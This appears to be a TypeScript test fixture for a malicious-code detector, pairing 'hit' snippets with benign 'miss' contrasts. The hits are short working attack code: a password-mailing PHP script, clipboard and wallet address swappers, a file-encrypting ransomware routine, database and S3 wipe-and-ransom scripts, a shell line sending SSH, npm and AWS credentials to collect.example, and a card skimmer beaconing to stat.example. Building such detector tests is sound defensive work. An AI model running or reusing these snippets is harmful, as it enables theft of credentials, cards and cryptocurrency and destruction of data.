// Secrets, keys and money taken, and files held for ransom.
import type { TextCases } from './case.ts'

const ENCRYPT =
  'import os\nfrom cryptography.fernet import Fernet\nclass T:\n  def one(self, p):\n    d = self.f.encrypt(open(p, "rb").read())\n    open(p, "wb").write(d)\n    os.rename(p, p + ".x")\n  def all(self):\n    for r, _, fs in os.walk(self.root):\n      for f in fs: self.one(os.path.join(r, f))\n'
const KEYS = 'for f in ~/.npmrc ~/.ssh/id_rsa ~/.aws/credentials; do cat $f; done > /tmp/o\n'

export const THEFTS: TextCases = {
  script_mails_typed_secrets: {
    hits: {
      'mailed with the address of the visitor': [
        'php',
        '<?php $m = "Password: ".$_POST["pw"]."\\n"; $m .= $_SERVER["REMOTE_ADDR"]; mail($to, "log", $m);',
      ],
    },
    misses: {
      'a contact form': [
        'php',
        '<?php $m = "Name: ".$_POST["name"]."\\nIP: ".$_SERVER["REMOTE_ADDR"]; mail($to, "contact", $m);',
      ],
      'a sign-in that logs the address': [
        'php',
        '<?php if (!password_verify($_POST["password"], $row["hash"])) file_put_contents("l", $_SERVER["REMOTE_ADDR"], FILE_APPEND);',
      ],
    },
  },
  script_swaps_payment_addresses: {
    hits: {
      'one of its own for another': [
        'python',
        'import re, pyperclip\nwhile True:\n  t = pyperclip.paste()\n  if re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", t): clipboard = pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")',
      ],
      'before the wallet of a page': [
        'javascript',
        'const own = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"; const re = /\\b0x[a-fA-F0-9]{40}\\b/g; const f = window.fetch; window.fetch = async (...a) => swap(await f(...a)); const rq = window.ethereum.request; window.ethereum.request = async q => { if (q.method === "eth_sendTransaction") { q.params[0].to = own } return rq(q) }',
      ],
      'from a table of addresses and patterns': [
        'python',
        'import re, pyperclip\nOWN = {"btc": "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"}\nKIND = {"btc": re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")}\nwhile 1:\n  c = pyperclip.paste()\n  for k, p in KIND.items():\n    if p.match(c): pyperclip.copy(OWN[k])',
      ],
    },
    misses: {
      'a clipboard manager whose author takes donations': [
        'python',
        'import pyperclip, re\nDONATE = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"\ndef upper():\n  pyperclip.copy(pyperclip.paste().upper())',
      ],
      'a wallet checks what is pasted': [
        'javascript',
        'const t = await navigator.clipboard.readText(); if (!/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t)) warn(t)',
      ],
      'a donation address with a copy button': [
        'javascript',
        'button.onclick = () => navigator.clipboard.writeText("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")',
      ],
    },
  },
  script_demands_ransom: {
    hits: {
      'steps far apart, and a note': [
        'python',
        `${ENCRYPT}    note = "Your hard drive was encrypted. Send 500 USD in bitcoin to get the decryption key"`,
      ],
    },
    misses: {
      'a vault for its owner': ['python', `${ENCRYPT}    print("keep your key safe, without it the files are lost")`],
      'an article': [
        'python',
        'TEXT = "All your files are encrypted! Pay 2 BTC"\ndef scan(path):\n  return TEXT in open(path).read()',
      ],
    },
  },
  script_ransoms_databases: {
    hits: {
      'each database of a server': [
        'javascript',
        "for (const { name } of dbs) await c.db(name).dropDatabase()\nawait c.db('README').collection('n').insertOne({ t: 'All your data is backed up. You must pay 0.02 BTC to recover it.' })",
      ],
      'tables by their language': [
        'shell',
        'mysql -h $h -uroot -e "DROP DATABASE $db; CREATE DATABASE README; CREATE TABLE README.n (t TEXT); INSERT INTO README.n VALUES (\'Send 0.05 BTC to get your database back\')"',
      ],
      'a bucket with all its versions': [
        'python',
        "import boto3\nfor b in boto3.resource('s3').buckets.all():\n  b.object_versions.delete()\n  b.Object('NOTE.txt').put(Body=b'Your files were copied and deleted. Pay 0.1 BTC to recover them.')",
      ],
    },
    misses: {
      'the database of a test': [
        'javascript',
        'after(async () => { await client.db("test").dropDatabase(); await client.close() })',
      ],
      'a shop that empties its buckets': [
        'python',
        "import boto3\nb = boto3.resource('s3').Bucket('old')\nb.object_versions.delete()\nprint('Saves 12 USD a month')",
      ],
      'a note without a deletion': ['shell', 'echo "Send 0.05 BTC to get your database back" > sample-note.txt'],
      'a migration': ['shell', 'psql -c "DROP DATABASE staging" && createdb staging && pg_restore -d staging dump'],
    },
  },
  script_robs_developers: {
    hits: {
      'three kinds of keys posted': ['shell', `${KEYS}curl -s -F f=@/tmp/o https://collect.example/u`],
    },
    misses: {
      'kept on the machine': ['shell', KEYS],
      'one key, for its own service': ['shell', 'cat ~/.aws/credentials | curl -F f=@- https://collect.example/u'],
    },
  },
  script_skims_cards: {
    hits: {
      'a checkout page': [
        'javascript',
        'if (/checkout|payment/.test(location.href)) { const d = {}; document.querySelectorAll("input,select").forEach(i => d[i.name] = i.value); if (d.cc_number) new Image().src = "https://stat.example/g?d=" + btoa(JSON.stringify(d)) }',
      ],
    },
    misses: {
      'statistics of a shop': [
        'javascript',
        'if (/checkout/.test(location.href)) new Image().src = "https://stat.example/g?u=" + encodeURIComponent(location.href)',
      ],
      'a form that checks a card': [
        'javascript',
        'document.querySelectorAll("input").forEach(i => { if (i.name === "cc_number" && !luhn(i.value)) i.classList.add("bad") })',
      ],
    },
  },
}
